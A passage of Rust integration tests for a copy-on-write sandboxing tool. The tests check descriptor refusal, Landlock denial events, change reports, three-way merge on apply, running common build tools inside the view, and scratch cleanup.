            .env("XDG_STATE_HOME", &env_state)
            .output()
            .unwrap();
        let forged = Run::from(forged);
        assert_ne!(forged.code, Some(0), "{who:?}: fd 7 was inherited");
        let lines = event_lines(&std::fs::read_to_string(fx.dir.join("events-fd.jsonl")).unwrap());
        assert_eq!(lines[0]["event"], "start", "{who:?}");
        assert_eq!(lines.iter().filter(|l| l["event"] == "exit").count(), 1);
        assert_ne!(lines.last().unwrap()["exit_code"], 0);
        let kept = fx
            .command("/bin/sh".as_ref(), &["-c", &script("--keep-fd 7")])
            .env("XDG_STATE_HOME", &env_state)
            .output()
            .unwrap();
        let kept = Run::from(kept);
        assert_eq!(kept.code, Some(125), "{who:?}: {}", kept.describe());
        assert!(kept.stderr.contains("--keep-fd 7"), "{}", kept.stderr);
        // A named pipe given as FILE and held open on a kept descriptor: refused too.
        let fifo = fx.dir.join("events.fifo");
        assert!(
            Command::new("mkfifo")
                .arg(&fifo)
                .status()
                .unwrap()
                .success()
        );
        fx.give_to(who);
        let both = format!(
            "exec 9<>{fifo}; exec {jail} --cow {repo} --events {fifo} --keep-fd 9 -- true",
            fifo = fifo.display(),
            jail = common::jail_bin().display(),
        );
        let both = Run::from(
            fx.command("/bin/sh".as_ref(), &["-c", &both])
                .env("XDG_STATE_HOME", &env_state)
                .output()
                .unwrap(),
        );
        assert_eq!(both.code, Some(125), "{who:?}: {}", both.describe());
        assert!(both.stderr.contains("--keep-fd 9"), "{}", both.stderr);
    }
}

#[test]
fn landlock_denials_arrive_as_events_where_the_kernel_reports_them() {
    if !full_level_or_skip("cow") {
        return;
    }
    // The suite runs with --features test-hooks; clippy also builds it without. Audit is put
    // back as it was when the guard drops.
    #[cfg(feature = "test-hooks")]
    let _audit = common::AuditOn::new();
    for who in users() {
        // Without the mount view Landlock is what refuses, and what the kernel audits.
        let fx = fixture(who, &[Layer::Mount], "cow-events-denied");
        let repo = fx.p("repo");
        let events = fx.p("events.jsonl");
        let run = sh(
            &fx,
            &["--ro", &repo, "--events", &events],
            &format!("echo x > {repo}/file.txt; sleep 0.3"),
        );
        assert!(run.ok(), "{who:?}: {}", run.describe());
        let lines = event_lines(&std::fs::read_to_string(&events).unwrap());
        let start = &lines[0];
        let denied: Vec<_> = lines.iter().filter(|l| l["event"] == "denied").collect();
        if who == Who::User {
            // Reading audit records takes CAP_AUDIT_READ: said, not pretended.
            let why = start["denials"].as_str().unwrap();
            assert!(
                why.starts_with("not reported") && why.contains("CAP_AUDIT_READ"),
                "{why}"
            );
            assert!(denied.is_empty());
            continue;
        }
        assert_eq!(start["denials"], "reported", "{lines:#?}");
        let d = denied
            .iter()
            .find(|d| d["command"] == "sh")
            .unwrap_or_else(|| panic!("no denial event: {lines:#?}"));
        assert!(
            d["operation"].as_str().unwrap().contains("fs.write_file"),
            "{d:#}"
        );
        assert!(d["path"].as_str().unwrap().ends_with("file.txt"), "{d:#}");
        assert_eq!(lines.last().unwrap()["event"], "exit");
    }
}

#[test]
fn a_reader_that_goes_away_ends_the_stream_and_not_the_run() {
    if !full_level_or_skip("cow") {
        return;
    }
    for who in users() {
        let fx = fixture(who, &[], "cow-events-gone");
        let repo = fx.p("repo");
        let (read, write) = nix::unistd::pipe().unwrap();
        let mut cmd = fx.command(
            common::jail_bin(),
            &[
                "--cow", &repo, "--cwd", &repo, "--events", "fd:7", "--", "/bin/sh", "-c",
            ],
        );
        cmd.arg("i=0; while [ $i -lt 200 ]; do : > f$i; i=$((i+1)); done; exit 4");
        let raw = std::os::fd::AsRawFd::as_raw_fd(&write);
        // SAFETY: dup2 in the child before exec only rearranges its descriptors.
        unsafe {
            std::os::unix::process::CommandExt::pre_exec(&mut cmd, move || {
                if libc::dup2(raw, 7) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        cmd.stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped());
        let child = cmd.spawn().unwrap();
        drop(write);
        // The reader takes the first line and goes away.
        let mut first = String::new();
        let mut reader = std::io::BufReader::new(std::fs::File::from(read));
        std::io::BufRead::read_line(&mut reader, &mut first).unwrap();
        drop(reader);
        let run = Run::from(child.wait_with_output().unwrap());
        assert!(first.contains("\"start\""), "{who:?}: {first}");
        assert_eq!(run.code, Some(4), "{who:?}: {}", run.describe());
    }
}

#[test]
fn the_run_report_lists_what_the_layer_holds() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-report");
        let repo = fx.p("repo");
        let report = fx.p("report.json");
        let run = sh(
            &fx,
            &["--cow", &repo, "--cwd", &repo, "--report", &report],
            EDITS,
        );
        let what = format!("{who:?} off={off:?}");
        assert!(run.ok(), "{what}: {}", run.describe());
        let r: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        let got: BTreeMap<String, String> = r["changes"]["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| {
                let p = c["path"].as_str().unwrap();
                let rel = p.strip_prefix(&repo).unwrap_or(p).trim_start_matches('/');
                (
                    rel.to_string(),
                    format!(
                        "{} {}",
                        c["kind"].as_str().unwrap(),
                        c["file_type"].as_str().unwrap()
                    ),
                )
            })
            .collect();
        let want: BTreeMap<String, String> = [
            ("blob.bin", "created file"),
            ("file.txt", "modified file"),
            ("link", "created symlink"),
            ("olddir", "created dir"),
            ("olddir/inner", "created dir"),
            ("olddir/inner/f", "created file"),
            ("src/main.rs", "mode_changed file"),
            ("src/renamed.rs", "created file"),
            ("sub/keep", "deleted file"),
        ]
        .into_iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect();
        assert_eq!(got, want, "{what}: {:#}", r["changes"]);
        assert!(
            r["changes"]["items"]
                .as_array()
                .unwrap()
                .iter()
                .all(|c| c["root"] == repo.as_str())
        );
    }
}

#[test]
fn merge_applies_clean_three_way_merges_and_refuses_overlapping_edits() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-merge");
        std::fs::write(fx.repo.join("file.txt"), "a\nb\nc\nd\ne\n").unwrap();
        std::fs::write(fx.repo.join("other.txt"), "1\n2\n3\n").unwrap();
        fx.give_to(who);
        committed(&fx);
        let what = format!("{who:?} off={off:?}");
        // The run edits the first line of each; the user then edits the last line of file.txt
        // (no overlap) and the first line of other.txt (overlap).
        let run = cow_sh(&fx, "sed -i 1s/a/A/ file.txt && sed -i 1s/1/ONE/ other.txt");
        assert!(run.ok(), "{what}: {}", run.describe());
        let id = run_id(&run);
        std::fs::write(fx.repo.join("file.txt"), "a\nb\nc\nd\nE\n").unwrap();
        std::fs::write(fx.repo.join("other.txt"), "uno\n2\n3\n").unwrap();
        let refused = jail(&fx, &["apply", &id]);
        assert_eq!(refused.code, Some(1), "{what}: {}", refused.describe());
        // Asked to merge: file.txt merges cleanly, other.txt does not: nothing lands.
        let before = tree(&fx.repo);
        let both = jail(&fx, &["apply", &id, "--merge"]);
        assert_eq!(both.code, Some(1), "{what}: {}", both.describe());
        assert!(
            both.stderr.contains("other.txt") && both.stderr.contains("overlapping"),
            "{what}: {}",
            both.describe()
        );
        assert_eq!(
            tree(&fx.repo),
            before,
            "{what}: a refused merge changed the host"
        );
        // The clean one alone: merged and applied; the overlapping one stays in the layer.
        let one = jail(&fx, &["apply", &id, "--merge", "--skip-conflicts"]);
        assert!(one.ok(), "{what}: {}", one.describe());
        assert!(one.stderr.contains("merged"), "{what}: {}", one.describe());
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("file.txt")).unwrap(),
            "A\nb\nc\nd\nE\n"
        );
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("other.txt")).unwrap(),
            "uno\n2\n3\n"
        );
        // Applied once: the next apply does not put the run's side over the merge.
        let again = jail(&fx, &["apply", &id, "--skip-conflicts"]);
        assert!(again.ok(), "{what}: {}", again.describe());
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("file.txt")).unwrap(),
            "A\nb\nc\nd\nE\n"
        );
        assert!(
            again.stderr.contains("other.txt"),
            "{what}: {}",
            again.describe()
        );
        // Should the merge record be lost, the merged file counts as the host's change: still
        // refused, never overwritten.
        let record = fx.dir.join(format!("state/jail/runs/{id}/merged.json"));
        std::fs::remove_file(&record).unwrap();
        let lost = jail(&fx, &["apply", &id, "--skip-conflicts"]);
        assert!(lost.ok(), "{what}: {}", lost.describe());
        assert!(
            lost.stderr.contains("file.txt"),
            "{what}: {}",
            lost.describe()
        );
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("file.txt")).unwrap(),
            "A\nb\nc\nd\nE\n"
        );
    }
}

/// What the command printed, stdout and stderr.
fn output(run: &Run) -> String {
    format!("{}{}", run.stdout, run.stderr)
}

#[test]
fn the_tools_an_agent_runs_work_inside_the_view() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-tools");
        // Two names of one file on the host: copy-up gives the written name a file of its own.
        std::fs::write(fx.repo.join("a"), "orig\n").unwrap();
        std::fs::hard_link(fx.repo.join("a"), fx.repo.join("b")).unwrap();
        std::fs::create_dir_all(fx.repo.join("pkg")).unwrap();
        std::fs::write(
            fx.repo.join("pkg/package.json"),
            r#"{"name":"localdep","version":"1.0.0","main":"index.js"}"#,
        )
        .unwrap();
        std::fs::write(fx.repo.join("pkg/index.js"), "module.exports = 42;\n").unwrap();
        std::fs::write(
            fx.repo.join("package.json"),
            r#"{"name":"app","version":"1.0.0","private":true}"#,
        )
        .unwrap();
        fx.give_to(who);
        let before = tree(&fx.repo);
        let inotify = "import ctypes, os\n\
            libc = ctypes.CDLL(None, use_errno=True)\n\
            fd = libc.inotify_init()\n\
            assert libc.inotify_add_watch(fd, b'.', 0x100) >= 0\n\
            open('watched', 'w').close()\n\
            data = os.read(fd, 4096)\n\
            assert b'watched' in data, data\n\
            print('inotify ok')\n";
        std::fs::write(fx.dir.join("inotify.py"), inotify).unwrap();
        let script = format!(
            "set -e\n\
             echo more >> a; test \"$(cat b)\" = orig; echo links ok\n\
             /usr/bin/python3 {py}\n\
             /usr/bin/python3 -m venv --without-pip venv; venv/bin/python -c 'print(\"venv ok\")'\n\
             export npm_config_cache=\"$PWD/.npm-cache\" npm_config_update_notifier=false\n\
             (cd pkg && npm pack --silent >/dev/null)\n\
             npm install --offline --no-audit --no-fund --silent ./pkg/localdep-1.0.0.tgz\n\
             node -e 'console.log(\"npm \" + require(\"localdep\"))'\n",
            py = fx.dir.join("inotify.py").display()
        );
        let run = cow_sh(&fx, &script);
        let what = format!("{who:?} off={off:?}");
        assert!(run.ok(), "{what}: {}", run.describe());
        for said in ["links ok", "inotify ok", "venv ok", "npm 42"] {
            assert!(
                output(&run).contains(said),
                "{what}: {said}: {}",
                run.describe()
            );
        }
        assert_eq!(
            tree(&fx.repo),
            before,
            "{what}: the host changed during the run"
        );
        let id = run_id(&run);
        let applied = jail(&fx, &["apply", &id, "--include-flagged"]);
        assert!(applied.ok(), "{what}: {}", applied.describe());
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("a")).unwrap(),
            "orig\nmore\n"
        );
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("b")).unwrap(),
            "orig\n"
        );
        assert!(
            fx.repo.join("node_modules/localdep/index.js").exists(),
            "{what}"
        );
        assert!(fx.repo.join("venv/pyvenv.cfg").exists(), "{what}");
    }
}

#[test]
fn cargo_builds_inside_the_view_as_root() {
    if !full_level_or_skip("cow") || !common::is_root() {
        // cargo lives under /root here, out of the unprivileged user's reach.
        return;
    }
    for off in MODES {
        let fx = fixture(Who::Root, off, "cow-cargo");
        std::fs::write(
            fx.repo.join("Cargo.toml"),
            "[package]\nname = \"hello\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        )
        .unwrap();
        std::fs::write(
            fx.repo.join("src/main.rs"),
            "fn main() { println!(\"built\"); }\n",
        )
        .unwrap();
        let before = tree(&fx.repo);
        let cargo_home = std::env::var("CARGO_HOME").unwrap_or_else(|_| "/root/.cargo".into());
        let run = cow_sh(
            &fx,
            &format!("CARGO_HOME={cargo_home} cargo run --offline --quiet"),
        );
        assert!(run.ok(), "off={off:?}: {}", run.describe());
        assert!(run.stdout.contains("built"), "{}", run.describe());
        assert_eq!(tree(&fx.repo), before, "off={off:?}: the host changed");
    }
}

#[test]
fn a_run_that_changed_nothing_leaves_only_scratch_the_next_run_clears() {
    if !full_level_or_skip("cow") {
        return;
    }
    for who in users() {
        let fx = fixture(who, &[], "cow-trash");
        let trash = fx.dir.join("state/jail/runs/.trash");
        let entries = || std::fs::read_dir(&trash).map_or(0, |d| d.count());
        // The overlay's scratch is on disk only with the layer there (`layer=none`); on its
        // tmpfs (the default) it goes with the mount.
        let repo = fx.p("repo");
        let on_disk = |script: &str| {
            sh(
                &fx,
                &["--limit", "layer=none", "--cow", &repo, "--cwd", &repo],
                script,
            )
        };
        for _ in 0..20 {
            let run = on_disk("true");
            assert!(run.ok(), "{who:?}: {}", run.describe());
        }
        // Bounded however short the runs are.
        assert!(
            entries() <= 17,
            "{who:?}: {} entries in the trash",
            entries()
        );
        // A run that lasts empties what earlier runs left, and leaves its own.
        let run = on_disk("sleep 2");
        assert!(run.ok(), "{who:?}: {}", run.describe());
        assert_eq!(entries(), 1, "{who:?}");
        let run = cow_sh(&fx, "sleep 1");
        assert!(run.ok(), "{who:?}: {}", run.describe());
        assert_eq!(
            entries(),
            0,
            "{who:?}: a layer on tmpfs left scratch on disk"
        );
        let runs: Vec<_> = std::fs::read_dir(fx.dir.join("state/jail/runs"))
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        assert!(runs.iter().all(|r| r.starts_with('.')), "{who:?}: {runs:?}");
    }
}
